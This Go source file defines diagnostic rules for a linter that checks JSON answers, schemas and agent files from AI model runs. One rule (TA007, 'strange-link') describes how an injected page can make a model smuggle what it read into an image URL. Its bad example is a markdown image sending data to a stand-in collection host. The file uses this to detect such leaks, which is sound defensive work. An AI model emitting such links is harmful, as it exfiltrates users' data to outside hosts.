package diag

import "slices"

// Codes about JSON documents and answers (TA), schemas (TS) and run files (TR).
const (
	NotJSON      Code = "TA001"
	SchemaFit    Code = "TA002" // a value does not fit its schema
	FencedAnswer Code = "TA003" // an answer in a fence
	ThoughtAhead Code = "TA004" // an answer behind reasoning
	NotYAML      Code = "TA005"
	UnknownKind  Code = "TA006" // a file that cannot be told
	StrangeLink  Code = "TA007" // an address in an answer that nobody gave to the run
	AskingAnswer Code = "TA008" // an answer that is a question
	BadSchema    Code = "TS001"
	NearKeyword  Code = "TS002" // a keyword of a schema is probably misspelt
	RunDamaged   Code = "TR001" // damage in the middle
	RunTorn      Code = "TR002" // torn tail
	RunSequence  Code = "TR003" // a record out of sequence or of another run
	RunVersion   Code = "TR004"
	RunUnordered Code = "TR005" // a record that cannot stand where it stands
)

// documentRules documents the TA, TS and TR codes.
var documentRules = slices.Concat(answerRules, runFileRules)

// answerRules documents the TA and TS codes.
var answerRules = []Rule{
	{
		Code: NotJSON, Slug: "not-json", Severity: Error,
		Title: "A text that must be JSON is not",
		Text: "One JSON value is wanted, strictly: no text around it, no comments, no trailing commas, no key twice in one object, no bytes that are not UTF-8, " +
			"at most 128 levels deep and no number of more than 1000 digits. Readers differ in what they make of anything else, so nothing is guessed.",
		Bad:  `{"answer": "yes",}`,
		Good: `{"answer": "yes"}`,
	},
	{
		Code: SchemaFit, Slug: "does-not-fit", Severity: Error,
		Title: "A value does not fit its schema",
		Text: "Each way in which a document does not fit is one finding, with the JSON pointer of the value and its place. Where several forms are allowed, " +
			"only what is wrong with the one that was probably meant is said. Formats such as date-time are checked.",
		Bad:  `{"price": "12"}  against  {"properties": {"price": {"type": "number"}}}`,
		Good: `{"price": 12}  against  {"properties": {"price": {"type": "number"}}}`,
	},
	{
		Code: FencedAnswer, Slug: "fenced-answer", Severity: Warning,
		Title: "An answer stands in a fence",
		Text:  "The answer is to be JSON alone. A fence that is the whole answer is dropped, because nothing in it changes; text beside a fence is not.",
		Bad:   "```json\n{\"answer\": \"yes\"}\n```",
		Good:  `{"answer": "yes"}`,
		Fix:   Safe,
	},
	{
		Code: StrangeLink, Slug: "strange-link", Severity: Warning,
		Title: "An answer links to an address that the run was not given",
		Text: "It stands in no result and no input, and neither the user nor a definition speaks of its host. A page that tells the model to put what it has read " +
			"into the address of a picture has it carried away by whoever shows the answer. Nothing is fetched here, and the answer stays as it is.",
		Bad:  `{"answer": "![chart](https://collect.example/?d=q3-results)"}`,
		Good: `{"answer": "The results of the third quarter are in q3.md."}`,
	},
	{
		Code: AskingAnswer, Slug: "asking-answer", Severity: Warning,
		Title: "An answer ends in a question",
		Text: "The run was given no schema, and its answer ends in a question mark. Nobody reads it before the run ends, so the work may not be done. " +
			"A run with tools offers ask_user, which ends with exit 8 and goes on with --answer; a schema says what an answer has to hold.",
		Bad:  `{"answer": "Which city do you leave from?"}`,
		Good: `{"answer": "The train leaves Berlin at 9:04."}`,
	},
	{
		Code: ThoughtAhead, Slug: "thought-ahead", Severity: Warning,
		Title: "Reasoning stands before an answer",
		Text:  "The answer is to be JSON alone. What the model thinks, between its marks, is dropped, because it is not meant for anyone; other text is not.",
		Bad:   "<think>Is it?</think>{\"answer\": \"yes\"}",
		Good:  `{"answer": "yes"}`,
		Fix:   Safe,
	},
	{
		Code: NotYAML, Slug: "not-yaml", Severity: Error,
		Title: "A text that must be YAML is not, or not the part of YAML that is read",
		Text: "Agent files and policies take of YAML what JSON can say, and comments. Anchors, aliases, merge keys and tags are refused, because they let a value be something else than it looks, " +
			"and no key may stand twice. Numbers are written as in JSON. The file must be UTF-8, at most 1 MiB, and hold one document.",
		Bad:  "version: 1\nmodel: &m ollama/qwen3:8b\nresponder: *m",
		Good: "version: 1\nmodel: ollama/qwen3:8b\nresponder: ollama/qwen3:8b",
	},
	{
		Code: UnknownKind, Slug: "unknown-kind", Severity: Error,
		Title: "What a file is cannot be told",
		Text: "The kind of a file is told from the keys at its top, however broken it is. Too few of them are those of one kind, or they are those of another program, " +
			"so it is not checked: a guess would find faults that are none. Say what it is with --as. Files that are no concern are passed over with --ignore unknown-kind.",
		Bad:  "name: tests\non: [push]\njobs: {}",
		Good: "version: 1\nmodel: ollama/qwen3:8b",
	},
	{
		Code: BadSchema, Slug: "bad-schema", Severity: Error,
		Title: "A schema is no JSON Schema",
		Text: "A schema is JSON Schema 2020-12, or an older draft that it names. It must hold as a whole: a misspelt type, a pattern that is no regular expression (RE2), " +
			"a reference that leads nowhere. References to other documents are never followed, because a schema must not reach files or hosts.",
		Bad:  `{"properties": {"price": {"type": "numbr"}}}`,
		Good: `{"properties": {"price": {"type": "number"}}}`,
	},
	{
		Code: NearKeyword, Slug: "near-keyword", Severity: Warning,
		Title: "A keyword of a schema is probably misspelt",
		Text: "JSON Schema allows any keyword and passes over those that it does not know, so a misspelt one means nothing: what it should forbid is allowed. " +
			"Only keywords that are near a known one are reported; others are taken as notes.",
		Bad:  `{"proprties": {"price": {"type": "number"}}}`,
		Good: `{"properties": {"price": {"type": "number"}}}`,
	},
}
